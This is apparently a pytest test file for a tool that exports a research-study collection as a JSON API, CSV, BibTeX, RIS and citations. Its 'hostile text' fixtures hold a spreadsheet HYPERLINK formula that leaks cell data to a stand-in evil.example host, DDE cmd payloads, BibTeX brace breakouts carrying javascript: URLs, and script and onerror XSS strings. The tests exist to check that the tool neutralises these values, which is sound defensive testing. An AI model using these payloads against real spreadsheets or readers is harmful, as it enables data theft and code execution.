"""Headless outputs: the JSON API against its schemas, open data, reference formats, citations."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from pathlib import Path

import bibtexparser
import pybtex.database
import pytest
import rispy
import yaml
from citeproc import (
    Citation,
    CitationItem,
    CitationStylesBibliography,
    CitationStylesStyle,
    formatter,
)
from citeproc.source.json import CiteProcJSON
from jsonschema import Draft202012Validator

from matrixpipe import models
from matrixpipe.check.run import check
from matrixpipe.models.schemas import api_schema_files
from matrixpipe.publish.api import api_files, studies_json, write_api
from matrixpipe.publish.citation import citation_html, citation_text, style_path
from matrixpipe.publish.downloads import download_files, write_downloads
from matrixpipe.publish.files import dump_json
from matrixpipe.publish.references import bibtex, csl_item, ris
from matrixpipe.publish.tables import FORMULA_STARTS, csv_cell
from matrixpipe.publish.view import PublicView, Urls

from conftest import ENTRIES, ROOT, RunCli
from tools import require

SCHEMA_DIR = ROOT / "schema" / "api"
E5 = "alcohol/E5"
UNREFERENCED = "barriers-employing-problem-drinkers-2010"
"""A published study that nothing links to, so it can become a draft without breaking links."""


@pytest.fixture(scope="module")
def bundled() -> PublicView:
    """The bundled collection's public view, with root-relative URLs."""
    result = check(ROOT)
    assert not result.report.failing(), result.report.failing()
    return PublicView(result.collection)


def _placements(view: PublicView) -> int:
    return sum(len(s.placements) for s in view.studies)


def _schema_for(path: str) -> str:
    if path == "index.json":
        return "index"
    if path == "studies.json":
        return "studies"
    return {"matrices": "matrix", "cells": "cell", "studies": "study"}[path.split("/")[0]]


def _tree(folder: Path) -> dict[str, bytes]:
    return {
        p.relative_to(folder).as_posix(): p.read_bytes()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


# --- the schemas ---------------------------------------------------------------------------


def test_published_schemas_are_generated_from_the_models() -> None:
    expected = api_schema_files()
    assert sorted(p.name for p in SCHEMA_DIR.glob("*.json")) == sorted(expected)
    for name, text in expected.items():
        assert (SCHEMA_DIR / name).read_text(encoding="utf-8") == text, (
            f"schema/api/{name} is stale"
        )
        schema = json.loads(text)
        Draft202012Validator.check_schema(schema)
        assert schema["$id"].endswith(f"/schema/api/{name}")
        assert schema["description"]


# --- the JSON API --------------------------------------------------------------------------


def test_every_api_file_validates_against_its_schema(bundled: PublicView, tmp_path: Path) -> None:
    written = write_api(bundled, tmp_path)
    files = _tree(tmp_path)
    assert sorted(p.relative_to(tmp_path).as_posix() for p in written) == sorted(files)
    validators = {
        name.removesuffix(".schema.json"): Draft202012Validator(json.loads(text))
        for name, text in api_schema_files().items()
    }
    documents = [name for name in files if not name.startswith("schema/")]
    assert len(documents) == 1 + 2 + 50 + 18 + 1  # index, matrices, cells, studies, studies.json
    for name in documents:
        errors = list(validators[_schema_for(name)].iter_errors(json.loads(files[name])))
        assert not errors, f"{name}: {errors[0].message} at {list(errors[0].absolute_path)}"
    for name, text in api_schema_files().items():
        assert files[f"schema/{name}"].decode() == text


def test_two_runs_give_byte_identical_output(tmp_path: Path) -> None:
    for run in ("a", "b"):  # a fresh check each time: no order may leak from sets or dicts
        view = PublicView(check(ROOT).collection, urls=Urls("https://example.org/findings"))
        write_api(view, tmp_path / run / "api")
        write_downloads(view, tmp_path / run / "downloads")
    first, second = _tree(tmp_path / "a"), _tree(tmp_path / "b")
    assert sorted(first) == sorted(second)
    for name, data in first.items():
        assert data == second[name], f"{name} differs between runs"
        if name.endswith(".json"):
            assert data.endswith(b"\n") and json.loads(data) is not None


def test_json_is_sorted_and_keeps_unicode(bundled: PublicView) -> None:
    text = api_files(bundled)["studies/children-problem-drinking-parents-2014.json"]
    data = json.loads(text)
    assert text == json.dumps(data, sort_keys=True, ensure_ascii=False, indent=2) + "\n"
    assert "Children's" in text


def test_index_counts_and_links(bundled: PublicView) -> None:
    index = json.loads(api_files(bundled)["index.json"])
    assert index["counts"] == {"matrices": 2, "cells": 50, "studies": 18, "placements": 18}
    assert len(index["cells"]) == 50  # every cell of the grid has a page, so a record
    e5 = next(c for c in index["cells"] if c["id"] == E5)
    assert e5["api"] == "cells/alcohol/E5.json" and e5["url"] == "/alcohol/E5/"
    assert index["schemas"]["study"] == "schema/study.schema.json"
    assert {s["api"] for s in index["studies"]} == {f"studies/{s.id}.json" for s in bundled.studies}


def test_matrix_grid_has_every_cell_with_its_studies(bundled: PublicView) -> None:
    grid = json.loads(api_files(bundled)["matrices/alcohol.json"])
    assert [c["code"] for c in grid["cells"]][:6] == ["A1", "A2", "A3", "A4", "A5", "B1"]
    assert len(grid["cells"]) == 25
    e5 = next(c for c in grid["cells"] if c["code"] == "E5")
    listed = [item.study.id for item in bundled.cells[E5].listings]
    assert e5["counts"]["total"] == len(listed) == 18
    assert e5["studies"]["key"] == [i for i in listed if i in e5["studies"]["key"]]
    assert "children-problem-drinking-parents-2014" in e5["studies"]["guidance"]
    assert "children-problem-drinking-parents-2014" in e5["studies"]["key"]
    e4 = next(c for c in grid["cells"] if c["code"] == "E4")
    assert e4["url"] == "/alcohol/E4/" and e4["api"] == "cells/alcohol/E4.json"
    assert e4["counts"]["total"] == 0


def test_cell_document_has_bite_sections_and_listings_in_order(bundled: PublicView) -> None:
    cell = json.loads(
        api_files(PublicView(bundled.collection, urls=Urls("https://example.org/findings/")))[
            f"cells/{E5}.json"
        ]
    )
    assert [s["anchor"] for s in cell["sections"] if s["level"] == 2] == [
        "about",
        "start",
        "highlighted-study",
        "issues",
    ]
    assert len(cell["sections"]) == 8 and cell["sections"][4]["level"] == 3
    assert cell["sections"][3]["url"] == "https://example.org/findings/alcohol/E5/#issues"
    assert [p["study"] for p in cell["placements"]] == [
        item.study.id for item in bundled.cells[E5].listings
    ]
    html = cell["bite"]["html"]
    assert cell["bite"]["markdown"] == bundled.cells[E5].bite
    assert '<h2 id="issues">' in html
    assert (
        'href="https://example.org/findings/studies/criminal-justice-treatment-partnership-australia-2005/"'
        in html
    )
    assert 'href="https://example.org/findings/alcohol/E2/"' in html
    assert "study:" not in html and "cell:" not in html


def test_study_document_carries_citation_and_csl(bundled: PublicView) -> None:
    doc = json.loads(api_files(bundled)["studies/children-problem-drinking-parents-2014.json"])
    assert doc["url"] == "/studies/children-problem-drinking-parents-2014/"
    assert doc["placements"][0]["categories"] == ["key", "guidance"]
    assert doc["placements"][0]["url"] == "/alcohol/E5/"
    assert doc["citation"]["text"].startswith(
        "[English] Office of the Children's Commissioner. (2014)."
    )
    assert "<i>Finding and meeting" in doc["citation"]["html"]
    assert doc["csl"]["issued"] == {"date-parts": [[2014]]}
    assert doc["summary"]["html"].startswith("<p>")


def test_only_published_entries_unless_drafts(collection: Path) -> None:
    path = collection / "entries" / "studies" / f"{UNREFERENCED}.yaml"
    path.write_text(path.read_text().replace("status: published", "status: draft"))
    result = check(collection)
    assert not result.report.failing()
    public = api_files(PublicView(result.collection))
    assert f"studies/{UNREFERENCED}.json" not in public
    assert UNREFERENCED not in public[f"cells/{E5}.json"]
    assert json.loads(public["index.json"])["counts"]["placements"] == 17
    preview = api_files(PublicView(result.collection, drafts=True))
    assert json.loads(preview[f"studies/{UNREFERENCED}.json"])["status"] == "draft"
    assert json.loads(preview["index.json"])["drafts"] is True
    assert f"studies/{UNREFERENCED}.bib" not in download_files(PublicView(result.collection))


def test_api_markdown_is_sanitised_and_links_are_absolute(bundled: PublicView) -> None:
    """The API's HTML is the site's converter with the view's absolute URLs: a link to a study
    the public cannot see keeps its text only; a section link keeps its anchor only where the
    cell's text is public."""
    from matrixpipe.publish.api import _Builder

    view = PublicView(bundled.collection, urls=Urls("https://example.org/m"))
    text = _Builder(view, "").text(
        f'See [it]({"study:" + UNREFERENCED} "hover") [gone](study:no-such-2009) '
        "<script>alert(1)</script> [bad](javascript:alert(1))\n\n"
        '??? note "More"\n    [cell](cell:alcohol/E5#issues) [d5](cell:alcohol/D5#issues)\n'
    )
    html = text.html
    url = f"https://example.org/m/studies/{UNREFERENCED}/"
    assert f'<a href="{url}" rel="noopener noreferrer" title="hover">it</a>' in html
    assert " gone " in html and "no-such" not in html
    assert 'href="https://example.org/m/alcohol/E5/#issues" rel="noopener noreferrer">cell<' in html
    assert 'href="https://example.org/m/alcohol/D5/" rel="noopener noreferrer">d5<' in html
    assert "<script" not in html and "javascript:" not in html
    assert "<details" in html


# --- open data and reference formats -------------------------------------------------------


def test_csv_has_one_row_per_placement(bundled: PublicView) -> None:
    text = download_files(bundled)[Urls.collection_downloads()["csv"]]
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert len(rows) == _placements(bundled) == 18
    assert list(rows[0]) == [
        "study_id",
        "title",
        "organisation",
        "jurisdiction",
        "year",
        "url",
        "doi",
        "matrix",
        "cell",
        "categories",
        "rank",
        "note",
        "headline",
        "container",
    ]
    both = [r for r in rows if r["study_id"] == "children-problem-drinking-parents-2014"]
    assert len(both) == 1 and both[0]["categories"] == "key;guidance"
    assert both[0]["year"] == "2014" and both[0]["matrix"] == "alcohol" and both[0]["cell"] == "E5"
    assert rows[0]["study_id"] == bundled.cells[E5].listings[0].study.id


def test_bibtex_parses_back(bundled: PublicView) -> None:
    studies = bundled.studies
    library = bibtexparser.parse_string(bibtex(studies))
    assert not library.failed_blocks
    assert [e.key for e in library.entries] == [s.id for s in studies]
    entry = library.entries_dict["nice-domestic-violence-multi-agency-2016"]
    assert entry.entry_type == "techreport"
    assert entry.fields_dict["type"].value == "Guidance"
    assert entry.fields_dict["year"].value == "2016"


def test_ris_parses_back(bundled: PublicView) -> None:
    studies = bundled.studies
    text = ris(studies)
    assert not text.startswith("1.")  # no rispy record-number headers: Zotero rejects them
    records = rispy.loads(text)
    assert [r["id"] for r in records] == [s.id for s in studies]
    assert all(r["type_of_reference"] == "RPRT" for r in records)
    assert {r["year"] for r in records} == {str(s.source.year) for s in studies}


def test_special_characters_survive_bibtex_and_ris() -> None:
    study = models.Study(
        id="odd-2020",
        title="Drink & drive: 50% of {cases} cost $5 #1 a_b ~ ^ \\",
        status="published",
        source=models.Source(
            authors=["Müller, Jörg", "van der Berg, Jan"],
            organisation="Smith & Sons {Ltd}",
            year=2020,
            url="https://example.org/a_b?x=1&y=50%25",
            doi="10.1002/(SICI)1097-4679(199601)52:1<1::AID-JCLP1>3.0.CO;2-V",
        ),
    )
    entry = bibtexparser.parse_string(bibtex([study])).entries[0]
    assert entry.fields_dict["title"].value.startswith(r"{Drink \& drive: 50\% of \{cases\}")
    assert entry.fields_dict["author"].value == "Müller, Jörg and van der Berg, Jan"
    record = rispy.loads(ris([study]))[0]
    assert record["title"] == study.title
    assert record["urls"] == [study.source.url]


def _study(study_id: str, kind: str, year: int | None, container: str | None) -> models.Study:
    return models.Study(
        id=study_id,
        title=f"A {kind} titled {study_id}",
        status="published",
        source=models.Source(
            authors=["Adamson, Jane"],
            organisation="Routledge",
            year=year,
            container=container,
            type=kind,  # type: ignore[arg-type]
        ),
    )


CONTAINED = [
    _study("article-2011", "journal-article", 2011, "Drug & Alcohol Review"),
    _study("chapter-undated", "chapter", None, "Handbook of Alcohol Treatment"),
    _study("report-2010", "report", 2010, "Home Office Research Study 12"),
    _study("page-undated", "web-page", None, "Alcohol Change UK"),
    _study("book-2004", "book", 2004, None),
]
"""One study of each kind of container (journal, book, series, website, none), two undated."""


def test_csl_item_has_container_title_and_no_issued_without_a_year() -> None:
    items = {s.id: csl_item(s) for s in CONTAINED}
    assert {k: i.get("container-title") for k, i in items.items()} == {
        s.id: s.source.container for s in CONTAINED
    }
    assert items["article-2011"]["issued"] == {"date-parts": [[2011]]}
    assert "issued" not in items["chapter-undated"] and "issued" not in items["page-undated"]
    assert "container-title" not in items["book-2004"]


def test_bibtex_names_the_container_by_entry_type_and_leaves_out_no_year() -> None:
    library = bibtexparser.parse_string(bibtex(CONTAINED))
    assert not library.failed_blocks
    fields = {e.key: {f.key: f.value for f in e.fields} for e in library.entries}
    assert fields["article-2011"]["journal"] == r"Drug \& Alcohol Review"
    assert fields["chapter-undated"]["booktitle"] == "Handbook of Alcohol Treatment"
    assert fields["report-2010"]["series"] == "Home Office Research Study 12"
    assert fields["page-undated"]["series"] == "Alcohol Change UK"
    containers = {"journal", "booktitle", "series"}
    assert [sorted(containers & set(f)) for f in fields.values()] == [
        ["journal"],
        ["booktitle"],
        ["series"],
        ["series"],
        [],
    ]
    assert {k for k, f in fields.items() if "year" not in f} == {"chapter-undated", "page-undated"}
    # pybtex, as BibTeX styles read the file, agrees.
    entries = _pybtex_entries(bibtex(CONTAINED))
    assert entries["article-2011"].fields["journal"] == r"Drug \& Alcohol Review"


def test_ris_names_the_container_jo_for_articles_t2_otherwise() -> None:
    text = ris(CONTAINED)
    records = {r["id"]: r for r in rispy.loads(text)}
    assert records["article-2011"]["journal_name"] == "Drug & Alcohol Review"
    assert "secondary_title" not in records["article-2011"]
    assert records["chapter-undated"]["secondary_title"] == "Handbook of Alcohol Treatment"
    assert records["report-2010"]["secondary_title"] == "Home Office Research Study 12"
    assert records["page-undated"]["secondary_title"] == "Alcohol Change UK"
    assert "JO  - Drug & Alcohol Review" in text.splitlines()
    assert {k for k, r in records.items() if "year" not in r} == {"chapter-undated", "page-undated"}
    assert "PY  - " not in text.split("ID  - chapter-undated")[1].split("ER  -")[0]


def test_downloads_per_study_per_cell_and_whole(bundled: PublicView, tmp_path: Path) -> None:
    written = write_downloads(bundled, tmp_path)
    names = {p.relative_to(tmp_path).as_posix() for p in written}
    expected = set(Urls.collection_downloads().values()) | set(Urls.cell_downloads(E5).values())
    expected |= {Urls.matrix_gaps("alcohol"), Urls.matrix_gaps("drug")}
    for study in bundled.studies:
        expected |= set(Urls.study_downloads(study.id).values())
    assert names == expected
    one = json.loads(
        (
            tmp_path / Urls.study_downloads("children-problem-drinking-parents-2014")["csl.json"]
        ).read_text()
    )
    assert [item["id"] for item in one] == ["children-problem-drinking-parents-2014"]
    cell_rows = list(
        csv.DictReader(
            io.StringIO((tmp_path / Urls.cell_downloads(E5)["csv"]).read_text(), newline="")
        )
    )
    assert len(cell_rows) == 18
    assert len(rispy.loads((tmp_path / Urls.cell_downloads(E5)["ris"]).read_text())) == 18


# --- hostile text in the downloads ---------------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the full report")'
BIB_BREAKOUT = 'x}}, url = "javascript:alert(1)", note = "{{'
HOSTILE_STUDIES = {
    "formula-title-2015": {
        "title": HYPERLINK,
        "source": {
            "organisation": "@SUM(1+1)*cmd|' /C calc'!A0",
            "jurisdiction": "-2+3",
            "year": 2015,
            "type": "report",
        },
        "note": "+cmd|' /C notepad'!A0 opens a program in old spreadsheets.",
    },
    "brace-breakout-2016": {
        "title": BIB_BREAKOUT,
        "source": {
            "authors": ["Evil}}, url = {javascript:alert(2)}, x = {", "Smith, Jane"],
            "organisation": '}, url = "javascript:alert(3)", note = {',
            "jurisdiction": "\\}{",
            "year": 2016,
            "type": "report",
        },
        "summary": 'Found}}, note = "javascript:alert(4)", x = {{ nothing.',
        "note": "=1+1 and a tab\tinside.",
    },
    "ordinary-title-2017": {
        "title": "Drink & drive: 50% of {cases} cost $5 - a mid-title dash",
        "source": {
            "authors": ["Müller, Jörg", "World Health Organization"],
            "organisation": "Smith & Sons {Ltd}",
            "jurisdiction": "England and Wales",
            "year": 2017,
            "type": "report",
        },
        "note": "An ordinary note - with a dash, 3 numbers and -1 in it.",
    },
}


@pytest.fixture
def hostile(collection: Path) -> Path:
    """The bundled collection plus studies in cell E5 whose text attacks spreadsheets and
    BibTeX readers, and one ordinary study that must come out unchanged."""
    for study_id, spec in HOSTILE_STUDIES.items():
        data = {
            "id": study_id,
            "title": spec["title"],
            "status": "published",
            "source": spec["source"],
            **({"summary": spec["summary"]} if "summary" in spec else {}),
            "placements": [{"cell": E5, "categories": ["review"], "rank": 9, "note": spec["note"]}],
        }
        path = collection / "entries" / "studies" / f"{study_id}.yaml"
        path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False))
    assert not check(collection).report.failing()
    return collection


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _hostile_csvs(run_cli: RunCli, repo: Path, out: Path) -> dict[str, str]:
    """Every CSV a reader can get: the downloads (per cell, whole) and `export --format csv`."""
    downloads = out / "downloads"
    assert run_cli(["export", "--format", "downloads", "--out", downloads, repo]).exit_code == 0
    files = {
        "cell download": (downloads / Urls.cell_downloads(E5)["csv"]).read_text(encoding="utf-8"),
        "collection download": (downloads / Urls.collection_downloads()["csv"]).read_text(
            encoding="utf-8"
        ),
    }
    for name, args in {
        "export": [],
        "export --cell": ["--cell", E5],
        "export --study": ["--study", "formula-title-2015"],
    }.items():
        result = run_cli(["export", "--format", "csv", *args, "--out", "-", repo])
        assert result.exit_code == 0, result.output
        files[name] = result.stdout
    return files


def test_csv_cells_cannot_start_a_formula(run_cli: RunCli, hostile: Path, tmp_path: Path) -> None:
    for name, text in _hostile_csvs(run_cli, hostile, tmp_path).items():
        rows = {row["study_id"]: row for row in _csv_rows(text)}
        formula = rows["formula-title-2015"]
        assert formula["title"] == "'" + HYPERLINK, name
        assert formula["organisation"] == "'@SUM(1+1)*cmd|' /C calc'!A0", name
        assert formula["jurisdiction"] == "'-2+3", name
        assert formula["note"] == "'+cmd|' /C notepad'!A0 opens a program in old spreadsheets."
        if name == "export --study":
            assert list(rows) == ["formula-title-2015"]
            continue
        assert rows["brace-breakout-2016"]["note"] == "'=1+1 and a tab\tinside.", name
        for row in rows.values():
            for column, value in row.items():
                assert not value.startswith(FORMULA_STARTS), (name, column, value)
            assert row["year"].isdigit() and row["rank"] in ("", *map(str, range(1, 10000)))
        ordinary = rows["ordinary-title-2017"]
        spec = HOSTILE_STUDIES["ordinary-title-2017"]
        assert ordinary["title"] == spec["title"] and ordinary["note"] == spec["note"], name
        assert ordinary["organisation"] == "Smith & Sons {Ltd}" and ordinary["year"] == "2017"
        assert ordinary["rank"] == "9", name
        bundled = rows["children-problem-drinking-parents-2014"]
        assert bundled["title"].startswith("Finding and meeting") and bundled["year"] == "2014", (
            name
        )


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_csv_cell_quotes_every_formula_start(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell(f"{start}SUM(A1:A9)") == f"'{start}SUM(A1:A9)"


@pytest.mark.parametrize("value", ["2009", "-3", "+4", "-2.5", "", "Ministry of Justice", "a=b"])
def test_csv_cell_keeps_numbers_and_plain_text(value: str) -> None:
    assert csv_cell(value) == value


def _pybtex_entries(text: str) -> dict[str, pybtex.database.Entry]:
    """Parse as BibTeX does (braces counted, backslashes ignored); pybtex raises on an error."""
    return dict(pybtex.database.parse_string(text, "bibtex").entries)


def test_bibtex_values_cannot_close_their_field(
    run_cli: RunCli, hostile: Path, tmp_path: Path
) -> None:
    out = tmp_path / "all.bib"
    assert run_cli(["export", "--format", "bibtex", "--out", out, hostile]).exit_code == 0
    downloads = tmp_path / "downloads"
    assert run_cli(["export", "--format", "downloads", "--out", downloads, hostile]).exit_code == 0
    texts = {
        "export": out.read_text(encoding="utf-8"),
        "collection download": (downloads / Urls.collection_downloads()["bib"]).read_text("utf-8"),
        "cell download": (downloads / Urls.cell_downloads(E5)["bib"]).read_text("utf-8"),
        "study download": (
            downloads / Urls.study_downloads("brace-breakout-2016")["bib"]
        ).read_text("utf-8"),
    }
    for name, text in texts.items():
        entries = _pybtex_entries(text)
        breakout = entries["brace-breakout-2016"]
        assert sorted(breakout.fields) == [
            "abstract",
            "institution",
            "jurisdiction",
            "title",
            "year",
        ], name
        assert len(breakout.persons["author"]) == 2, name
        assert str(breakout.persons["author"][1]) == "Smith, Jane"
        assert breakout.fields["year"] == "2016"
        if name == "study download":
            assert list(entries) == ["brace-breakout-2016"]
            continue
        for key in ("formula-title-2015", "ordinary-title-2017"):
            assert "url" not in entries[key].fields and "note" not in entries[key].fields
        assert sorted(entries["ordinary-title-2017"].fields) == [
            "institution",
            "jurisdiction",
            "title",
            "year",
        ]
        ordinary = entries["ordinary-title-2017"]
        assert ordinary.fields["title"] == (
            r"{Drink \& drive: 50\% of \{cases\} cost \$5 - a mid-title dash}"
        )
        assert [str(p) for p in ordinary.persons["author"]] == [
            "Müller, Jörg",
            "{World Health Organization}",
        ]
        # bibtexparser, which `matrixpipe import` reads with, sees the same records.
        library = bibtexparser.parse_string(text)
        assert not library.failed_blocks, name
        assert {e.key: sorted(f.key for f in e.fields) for e in library.entries} == {
            key: sorted([*entry.fields, *entry.persons]) for key, entry in entries.items()
        }


def test_hostile_bibtex_reads_back_as_the_text_it_was(
    run_cli: RunCli, hostile: Path, tmp_path: Path
) -> None:
    """Neutralised braces are still the reader's braces: the import gives the same text back."""
    out = tmp_path / "e5.bib"
    assert (
        run_cli(["export", "--format", "bibtex", "--cell", E5, "--out", out, hostile]).exit_code
        == 0
    )
    empty = tmp_path / "empty"
    (empty / "entries" / "studies").mkdir(parents=True)
    for path in (ENTRIES / "matrices").iterdir():
        (empty / "entries" / "matrices").mkdir(exist_ok=True)
        (empty / "entries" / "matrices" / path.name).write_bytes(path.read_bytes())
    result = run_cli(["import", out, empty])
    assert result.exit_code == 0, result.output
    imported = {s.title: s for s in check(empty).collection.studies.values()}
    before = check(hostile).collection.studies
    for study_id in HOSTILE_STUDIES:
        study = before[study_id]
        again = imported[study.title]
        assert again.source.organisation == study.source.organisation, study_id
        assert again.source.jurisdiction == study.source.jurisdiction, study_id
        assert again.source.url is None
    assert imported[BIB_BREAKOUT].summary.strip() == before["brace-breakout-2016"].summary.strip()


# --- citations -----------------------------------------------------------------------------


def test_bundled_style_formats_the_csl_json_with_citeproc(bundled: PublicView) -> None:
    items = json.loads(download_files(bundled)[Urls.collection_downloads()["csl.json"]])
    style = CitationStylesStyle(style_path(), validate=True)  # a schema warning fails the test
    bibliography = CitationStylesBibliography(style, CiteProcJSON(items), formatter.plain)
    for item in items:
        bibliography.register(Citation([CitationItem(item["id"])]))
    entries = [str(entry) for entry in bibliography.bibliography()]
    assert len(entries) == 18
    probation = next(e for e in entries if "Probation struggling" in e)
    assert "[UK] Ministry of Justice" in probation and "(2009)" in probation


def test_citation_functions_escape_html() -> None:
    study = models.Study(
        id="a-2021",
        title="Drink & <drive>",
        status="published",
        source=models.Source(
            authors=["Adamson, Jane", "Templeton, Lorna"],
            organisation="A & B",
            year=2021,
            doi="10.1234/xyz",
        ),
    )
    html = citation_html(csl_item(study))
    assert citation_text(html) == (
        "Adamson, J., & Templeton, L. (2021). Drink & <drive>. A & B. https://doi.org/10.1234/xyz"
    )
    assert "<i>Drink &amp; &lt;drive&gt;</i>" in html and "A &amp; B." in html


def test_citation_shows_the_journal_or_book_in_italics_and_nd_without_a_year() -> None:
    cited = {s.id: citation_html(csl_item(s)) for s in CONTAINED}
    assert cited["article-2011"] == (
        "Adamson, J. (2011). A journal-article titled article-2011. "
        "<i>Drug &amp; Alcohol Review</i>. Routledge."
    )
    assert cited["chapter-undated"] == (
        "Adamson, J. (n.d.). A chapter titled chapter-undated. "
        "<i>Handbook of Alcohol Treatment</i>. Routledge."
    )
    assert "(n.d.)" in cited["page-undated"]
    assert "(2004)" in cited["book-2004"]


def test_citation_escapes_names() -> None:
    study = models.Study(
        id="names-2021",
        title="Names",
        status="published",
        source=models.Source(
            authors=["<img src=x onerror=alert(1)>, Jane", "Smith & Sons <Ltd>"], year=2021
        ),
    )
    html = citation_html(csl_item(study))
    assert "<img" not in html and "<Ltd>" not in html
    assert "&lt;img src=x onerror=alert(1)&gt;, J." in html
    assert "Smith &amp; Sons &lt;Ltd&gt;" in html
    assert citation_text(html).startswith("<img src=x onerror=alert(1)>, J., & Smith & Sons <Ltd>")


# --- the command ---------------------------------------------------------------------------


def test_export_json_then_check_jsonschema(run_cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "api"
    result = run_cli(["export", "--format", "json", "--out", out, ROOT])
    assert result.exit_code == 0, result.output
    assert result.stdout == f"wrote 77 files to {out}\n"
    index = json.loads((out / "index.json").read_text(encoding="utf-8"))
    assert index["title"] == check(ROOT).config.site.title
    studies = sorted(str(p) for p in (out / "studies").glob("*.json"))
    assert len(studies) == 18
    checked = subprocess.run(
        [
            require("check-jsonschema"),
            "--schemafile",
            str(SCHEMA_DIR / "study.schema.json"),
            *studies,
        ],
        capture_output=True,
        text=True,
        check=False,
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_export_json_removes_files_of_unpublished_entries(
    run_cli: RunCli, collection: Path, tmp_path: Path
) -> None:
    out = tmp_path / "api"
    assert run_cli(["export", "--format", "json", "--out", out, collection]).exit_code == 0
    (out / "README.txt").write_text("mine")
    path = collection / "entries" / "studies" / f"{UNREFERENCED}.yaml"
    path.write_text(path.read_text().replace("status: published", "status: draft"))
    assert run_cli(["export", "--format", "json", "--out", out, collection]).exit_code == 0
    assert not (out / "studies" / f"{UNREFERENCED}.json").exists()
    assert (out / "README.txt").read_text() == "mine"


@pytest.mark.parametrize(
    ("args", "parse"),
    [
        (["--format", "bibtex", "--study", "probation-alcohol-offenders-2009"], "bib"),
        (["--format", "ris", "--cell", E5], "ris"),
        (["--format", "csl-json"], "json"),
        (["--format", "csv", "--study", "children-problem-drinking-parents-2014"], "csv"),
    ],
)
def test_export_one_file(run_cli: RunCli, tmp_path: Path, args: list[str], parse: str) -> None:
    out = tmp_path / "out"
    result = run_cli(["export", *args, "--out", out, ROOT])
    assert result.exit_code == 0, result.output
    text = out.read_text(encoding="utf-8")
    if parse == "bib":
        assert [e.key for e in bibtexparser.parse_string(text).entries] == [
            "probation-alcohol-offenders-2009"
        ]
    elif parse == "ris":
        assert len(rispy.loads(text)) == 18
    elif parse == "json":
        assert len(json.loads(text)) == 18
    else:
        assert len(list(csv.DictReader(io.StringIO(text, newline="")))) == 1


def test_export_downloads_folder(run_cli: RunCli, tmp_path: Path) -> None:
    out = tmp_path / "downloads"
    result = run_cli(["export", "--format", "downloads", "--out", out, ROOT])
    assert result.exit_code == 0, result.output
    assert (out / "matrixpipe.bib").is_file() and (out / "cells" / "alcohol" / "E5.csv").is_file()
    assert (out / "matrices" / "alcohol-gaps.csv").is_file()
    # three per study, four for E5, four for the collection, a gap map per matrix
    assert result.stdout == f"wrote {3 * 18 + 4 + 4 + 2} files to {out}\n"


def test_export_to_stdout(run_cli: RunCli) -> None:
    result = run_cli(
        [
            "export",
            "--format",
            "ris",
            "--study",
            "probation-alcohol-offenders-2009",
            "--out",
            "-",
            ROOT,
        ]
    )
    assert result.exit_code == 0
    assert rispy.loads(result.stdout)[0]["id"] == "probation-alcohol-offenders-2009"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (
            ["--format", "ris", "--study", "probation-alcohol-2009"],
            "there is no study 'probation-alcohol-2009'; did you mean 'probation-alcohol-offenders-2009'?",
        ),
        (
            ["--format", "json", "--study", "probation-alcohol-offenders-2009"],
            "--study and --cell narrow a one-file export",
        ),
        (["--format", "ris", "--cell", "alcohol/F9"], "there is no cell 'alcohol/F9'"),
        (["--format", "ris", "--cell", E5, "--study", "x"], "give --study or --cell, not both"),
    ],
)
def test_export_usage_errors(
    run_cli: RunCli, tmp_path: Path, args: list[str], message: str
) -> None:
    result = run_cli(["export", *args, "--out", tmp_path / "out", ROOT])
    assert result.exit_code == 2
    assert message in result.stderr
    assert not (tmp_path / "out").exists()


def test_export_refuses_a_collection_with_errors(
    run_cli: RunCli, collection: Path, tmp_path: Path
) -> None:
    path = collection / "entries" / "studies" / f"{UNREFERENCED}.yaml"
    path.write_text(path.read_text().replace("cell: alcohol/E5", "cell: alcohol/E9"))
    result = run_cli(["export", "--format", "json", "--out", tmp_path / "api", collection])
    assert result.exit_code == 1
    assert "run `matrixpipe check`" in result.stderr
    assert not (tmp_path / "api").exists()


def test_multi_study_files_are_single_study_files_joined() -> None:
    """The downloads build cell and collection files from each study's file; the libraries'
    own output for several studies must be exactly that join."""
    from pathlib import Path as _Path

    from matrixpipe.check.run import check
    from matrixpipe.publish.references import bibtex, ris

    studies = list(check(_Path(__file__).resolve().parent.parent).collection.studies.values())
    for write in (bibtex, ris):
        assert write(studies) == "\n".join(write([s]) for s in studies), write.__name__


def test_studies_json_is_the_whole_document_as_dump_json_writes_it(bundled: PublicView) -> None:
    """studies.json is put together from the studies' own files (10,000 studies as one tree of
    objects would take hundreds of megabytes); the bytes must be those of the whole document."""
    files = api_files(bundled)
    order = [study["id"] for study in json.loads(files["studies.json"])["studies"]]
    whole = {
        "api_version": 1,
        "count": len(order),
        "studies": [json.loads(files[f"studies/{study_id}.json"]) for study_id in order],
    }

    assert len(order) == len([name for name in files if name.startswith("studies/")]) > 1
    assert files["studies.json"] == dump_json(whole)
    assert studies_json([]) == dump_json({"api_version": 1, "count": 0, "studies": []})
